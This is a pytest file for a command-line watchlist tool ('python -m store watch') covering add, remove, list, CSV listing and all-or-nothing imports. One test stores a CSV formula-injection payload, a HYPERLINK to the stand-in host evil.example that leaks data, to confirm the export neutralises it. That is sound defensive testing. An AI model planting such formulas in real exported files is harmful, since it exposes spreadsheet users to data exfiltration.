"""``python -m store watch``: add, remove, list and import (all of a file or nothing), against the
session's sandbox server and a real database (SQLite and PostgreSQL), as a script or a person at a
terminal would run it."""

from __future__ import annotations

import csv
import io
import sys
from pathlib import Path

import pytest

from client.settings import key_fingerprint
from sandbox import DEMO_KEY
from sandbox.accounts import ACCOUNTS
from sandbox.keyword_data import serp_on
from services.jobs.watch_import import MAX_IMPORT_BYTES, MAX_IMPORT_ROWS
from store import HistoryStore
from tests.sandbox_picks import new_domain
from tests.store.commands import StoreCommand

ACCOUNT = key_fingerprint(DEMO_KEY)
OWN_SITES = ACCOUNTS[DEMO_KEY].sites
RIVAL = "semrush.com"


@pytest.fixture
def run(store_url: str, demo_command: StoreCommand) -> StoreCommand:
    """``python -m store watch …`` with the demo key and this test's database: (exit code, stdout, stderr)."""
    return lambda *args: demo_command("watch", *args, "--database-url", store_url)


def _own_sites_known(store_url: str) -> None:
    with HistoryStore.open(store_url) as store:
        for site in OWN_SITES:
            store.watchlist.watch(ACCOUNT, "domain", site, origin="own")


def test_add_watches_a_listed_domain_records_today_at_once_and_is_audited(run, store_url: str) -> None:
    code, out, err = run("add", "domain", f"https://www.{RIVAL.upper()}/pricing")
    assert code == 0, err
    assert f"Watching {RIVAL}" in out and f"{RIVAL}: recorded" in err
    with HistoryStore.open(store_url) as store:
        assert store.watchlist.is_watched(ACCOUNT, "domain", RIVAL)
        assert len(store.queries.domain_history(ACCOUNT, [RIVAL])) == 1  # its History is never empty
        assert len(store.queries.trust_map_days(ACCOUNT, RIVAL)) == 1
        events = store.audit.events(ACCOUNT)
    assert events[["person", "operation", "target", "outcome"]].values.tolist() == [
        ["command line", "watch", RIVAL, "done"]
    ]
    code, out, _err = run("add", "domain", RIVAL)
    assert code == 0 and out.strip() == f"{RIVAL} was already watched."


def test_add_refuses_a_domain_the_service_does_not_list_with_exit_2(run, store_url: str) -> None:
    unlisted = new_domain("cli-unlisted-", listed=False)
    code, _out, err = run("add", "domain", unlisted)
    assert code == 2
    assert f"Not watched: {unlisted} is not a listed site on VerifiedDR" in err
    with HistoryStore.open(store_url) as store:
        assert not store.watchlist.is_watched(ACCOUNT, "domain", unlisted)


def test_add_watches_a_keyword_for_its_site_and_records_its_position(run, store_url: str) -> None:
    places = {row.domain: row.position for row in serp_on("cold brew coffee")}  # the sandbox's day
    site = next(s for s in OWN_SITES if s in places)
    code, _out, err = run("add", "keyword", "Cold  Brew Coffee", "--site", site)
    assert code == 0, err
    with HistoryStore.open(store_url) as store:
        assert store.watchlist.is_watched(ACCOUNT, "keyword", "cold brew coffee", site=site)
        assert store.queries.keyword_history(ACCOUNT, site)["position"].tolist() == [places[site]]


def test_a_keyword_without_a_site_asks_for_one_when_the_account_has_several(run, store_url: str) -> None:
    _own_sites_known(store_url)
    code, _out, err = run("add", "keyword", "cold brew coffee")
    assert code == 2
    assert "say which site the keyword is measured for, with --site DOMAIN (your sites: " in err
    code, _out, err = run("add", "domain", RIVAL, "--site", OWN_SITES[0])
    assert code == 2 and "--site is for keywords" in err


def test_remove_stops_watching_and_keeps_own_sites(run, store_url: str) -> None:
    _own_sites_known(store_url)
    assert run("add", "domain", RIVAL)[0] == 0
    code, out, _err = run("remove", "domain", RIVAL)
    assert code == 0 and "No longer watching semrush.com" in out
    code, out, _err = run("remove", "domain", RIVAL)
    assert code == 0 and "was not watched" in out
    code, _out, err = run("remove", "domain", OWN_SITES[0])
    assert code == 2 and "one of your own sites" in err
    with HistoryStore.open(store_url) as store:
        assert not store.watchlist.is_watched(ACCOUNT, "domain", RIVAL)
        assert store.queries.domain_history(ACCOUNT, [RIVAL])["domain"].tolist() == [RIVAL]  # history stays


def test_list_shows_every_subject_with_its_site_and_as_csv(run, store_url: str) -> None:
    _own_sites_known(store_url)
    with HistoryStore.open(store_url) as store:
        store.watchlist.watch(ACCOUNT, "keyword", "cold brew coffee", site="northwind-coffee.com")
        store.watchlist.watch(ACCOUNT, "keyword", "old keyword")  # watched before keywords had a site
    code, out, _err = run("list")
    assert code == 0
    assert 'keyword "cold brew coffee" for northwind-coffee.com' in out
    assert 'keyword "old keyword" for site unknown' in out
    code, out, _err = run("list", "--csv")
    lines = out.strip().splitlines()
    assert lines[0] == "kind,subject,site,origin,added_at"
    assert any(line.startswith("keyword,cold brew coffee,northwind-coffee.com,added,") for line in lines)
    assert any(line.startswith(f"domain,{OWN_SITES[0]},,own,") for line in lines)


def test_list_as_csv_defuses_a_subject_a_spreadsheet_would_run(run, store_url: str) -> None:
    hostile = '=HYPERLINK("http://evil.example/?leak","click")'
    with HistoryStore.open(store_url) as store:
        store.watchlist.watch(ACCOUNT, "keyword", hostile, site="northwind-coffee.com")
        store.watchlist.watch(ACCOUNT, "keyword", "-1+2", site="northwind-coffee.com")
        stored = sorted(item.subject for item in store.watchlist.entries(ACCOUNT))
    code, out, _err = run("list", "--csv")
    assert code == 0
    subjects = sorted(row["subject"] for row in csv.DictReader(io.StringIO(out)))
    assert subjects == sorted("'" + subject for subject in stored)


def _nothing_watched_nor_recorded(store_url: str, *domains: str) -> None:
    with HistoryStore.open(store_url) as store:
        assert store.watchlist.entries(ACCOUNT) == []
        assert store.queries.domain_history(ACCOUNT, list(domains)).empty
        assert store.audit.events(ACCOUNT).empty


def test_import_with_bad_lines_watches_nothing_and_names_every_bad_line(
    run, store_url: str, tmp_path: Path
) -> None:
    too_long = f"https://{RIVAL}/{'x' * 200_000}"  # past the csv module's own limit too
    csv_file = tmp_path / "watch.csv"
    csv_file.write_text(
        "kind,subject,site,tags\n"
        f"domain,{RIVAL},,\n"  # line 2
        "domain,not a domain,,\n"  # line 3
        "keyword,cold brew coffee,northwind-coffee.com,coffee\n"  # line 4
        "page,example.com,,\n"  # line 5
        f"domain,{too_long},,\n"  # line 6: longer than any cell may be
        "keyword,crm software,not a site,\n"  # line 7
        "keyword,cookie free analytics,example.com,<b>bold</b>\n",  # line 8: not a tag
        encoding="utf-8",
    )
    code, out, err = run("import", str(csv_file))
    assert code == 2
    assert out.strip().splitlines()[-1] == "watched 0, already watched 0, refused 5"
    named = [line.split(":")[0] for line in err.splitlines() if line.startswith("line ")]
    assert named == ["line 3", "line 5", "line 6", "line 7", "line 8"]
    assert f"line 6: the subject cell is {len(too_long):,} characters long; a cell holds at most 2,048" in err
    assert "line 8: tags: a tag is a short label" in err
    assert "Nothing was watched: 5 lines of the file cannot be watched as they are." in err
    _nothing_watched_nor_recorded(store_url, RIVAL)


def test_import_refused_by_the_service_watches_nothing_then_the_corrected_file_watches_all(
    run, store_url: str, tmp_path: Path
) -> None:
    unlisted = new_domain("cli-import-unlisted-", listed=False)
    good = f"kind,subject,site\ndomain,{RIVAL},\nkeyword,cold brew coffee,northwind-coffee.com\n"
    csv_file = tmp_path / "watch.csv"
    csv_file.write_text(good + f"domain,{unlisted},\ndomain,https://{RIVAL}/x,\n", encoding="utf-8")
    code, out, err = run("import", str(csv_file))
    assert code == 2
    assert f"line 4: {unlisted} is not a listed site on VerifiedDR" in err
    assert out.strip().splitlines()[-1] == "watched 0, already watched 0, refused 1"
    _nothing_watched_nor_recorded(store_url, RIVAL)  # what was read for the other lines is not kept

    csv_file.write_text(good + f"domain,https://{RIVAL}/x,\n", encoding="utf-8")  # line 4: as line 2
    code, out, err = run("import", str(csv_file))
    assert code == 0, err
    assert out.strip().splitlines()[-1] == "watched 2, already watched 0, refused 0"
    with HistoryStore.open(store_url) as store:
        assert store.watchlist.is_watched(ACCOUNT, "domain", RIVAL)
        assert store.watchlist.is_watched(ACCOUNT, "keyword", "cold brew coffee", site="northwind-coffee.com")
        assert len(store.queries.domain_history(ACCOUNT, [RIVAL])) == 1
        assert len(store.audit.events(ACCOUNT, operation="watch")) == 2
    code, out, _err = run("import", str(csv_file))
    assert code == 0 and out.strip().splitlines()[-1] == "watched 0, already watched 2, refused 0"


def test_import_refuses_a_file_too_big_before_reading_it_too_many_rows_and_names_twenty_bad_lines(
    run, store_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    huge = tmp_path / "huge.csv"
    with huge.open("wb") as file:
        file.truncate(MAX_IMPORT_BYTES + 1)  # a hole: nothing in it is ever read
    code, _out, err = run("import", str(huge))
    assert code == 2
    assert f"is {MAX_IMPORT_BYTES + 1:,} bytes: an import takes at most {MAX_IMPORT_BYTES:,} bytes" in err
    piped = b"kind,subject,site\n" + b"domain,semrush.com,\n" * (MAX_IMPORT_BYTES // 20)
    monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(io.BytesIO(piped)))
    code, _out, err = run("import", "-")
    assert code == 2 and f"is more than {MAX_IMPORT_BYTES:,} bytes" in err
    many = tmp_path / "many.csv"
    many.write_text("kind,subject,site\n" + f"domain,{RIVAL},\n" * (MAX_IMPORT_ROWS + 1), encoding="utf-8")
    code, _out, err = run("import", str(many))
    assert code == 2 and f"the file has more than {MAX_IMPORT_ROWS:,} rows" in err
    bad = tmp_path / "bad.csv"
    bad.write_text("kind,subject,site\n" + "page,example.com,\n" * 25, encoding="utf-8")
    code, _out, err = run("import", str(bad))
    assert code == 2 and len([line for line in err.splitlines() if line.startswith("line ")]) == 20
    assert "… and 5 more lines that cannot be watched" in err  # the rest counted, not listed
    _nothing_watched_nor_recorded(store_url, RIVAL)


def _refuse_insert(store_url: str, table: str, when: str, message: str) -> None:
    """A trigger that makes the database refuse an insert into ``table`` when ``when`` (about NEW) holds."""
    with HistoryStore.open(store_url) as store, store.engine.begin() as conn:
        if conn.dialect.name == "sqlite":
            conn.exec_driver_sql(
                f"CREATE TRIGGER refuse BEFORE INSERT ON {table} WHEN {when} "
                f"BEGIN SELECT RAISE(ABORT, '{message}'); END"
            )
            return
        conn.exec_driver_sql(
            "CREATE FUNCTION refuse() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN "
            f"IF {when} THEN RAISE EXCEPTION '{message}'; END IF; RETURN NEW; END $$"
        )
        conn.exec_driver_sql(
            f"CREATE TRIGGER refuse BEFORE INSERT ON {table} FOR EACH ROW EXECUTE FUNCTION refuse()"
        )


def test_import_the_database_fails_half_way_through_watches_nothing(
    run, store_url: str, tmp_path: Path
) -> None:
    first, second, third = (new_domain(f"cli-import-{n}-", listed=True) for n in "abc")
    _refuse_insert(store_url, "watch_items", f"NEW.subject = '{third}'", "the disk is full")
    csv_file = tmp_path / "watch.csv"
    csv_file.write_text(f"kind,subject,site\ndomain,{first},\ndomain,{second},\ndomain,{third},\n")
    code, _out, err = run("import", str(csv_file))
    assert code == 3
    assert "the disk is full" in err
    _nothing_watched_nor_recorded(store_url, first, second, third)


def test_a_subjects_numbers_are_recorded_only_once_it_is_watched(run, store_url: str, tmp_path: Path) -> None:
    unwatched = (
        "NOT EXISTS (SELECT 1 FROM watch_items w WHERE w.account = NEW.account AND w.subject = NEW.domain)"
    )
    _refuse_insert(store_url, "domain_snapshots", unwatched, "recorded before it was watched")
    csv_file = tmp_path / "watch.csv"
    csv_file.write_text(f"kind,subject,site\ndomain,{RIVAL},\n")
    assert run("import", str(csv_file))[0] == 0
    other = new_domain("cli-add-watched-first-", listed=True)
    code, _out, err = run("add", "domain", other)
    assert code == 0 and "recorded before" not in err
    with HistoryStore.open(store_url) as store:
        assert len(store.queries.domain_history(ACCOUNT, [RIVAL, other])) == 2


def test_import_tags_keywords_from_its_tags_column_and_audits_each_change(
    run, store_url: str, tmp_path: Path
) -> None:
    csv_file = tmp_path / "watch.csv"
    csv_file.write_text(
        "kind,subject,site,tags\n"
        "keyword,cold brew coffee,northwind-coffee.com,Coffee; Blog\n"  # line 2
        "keyword,website heatmap tool,example.com,\n"  # line 3: no tags, none given
        "keyword,cookie free analytics,example.com,Privacy\n",  # line 4
        encoding="utf-8",
    )
    code, out, err = run("import", str(csv_file))
    assert code == 0, err
    assert out.strip().splitlines()[-1] == "watched 3, already watched 0, refused 0"
    with HistoryStore.open(store_url) as store:
        assert store.groups.keyword_tags(ACCOUNT) == {
            "cold brew coffee": ("blog", "coffee"),
            "cookie free analytics": ("privacy",),
        }
        audited = store.audit.events(ACCOUNT, operation="tag_keyword")
    assert sorted(audited["target"].tolist()) == [
        "“cold brew coffee”: coffee, blog",
        "“cookie free analytics”: privacy",
    ]
    assert audited["person"].tolist() == ["command line", "command line"]


def test_import_of_a_file_without_the_columns_says_what_the_first_line_must_be(run, tmp_path: Path) -> None:
    csv_file = tmp_path / "watch.csv"
    csv_file.write_text("semrush.com\nmoz.com\n", encoding="utf-8")
    code, _out, err = run("import", str(csv_file))
    assert code == 2 and "the first line must name the columns kind,subject,site" in err
    code, _out, err = run("import", str(tmp_path / "missing.csv"))
    assert code == 2 and "cannot be read" in err
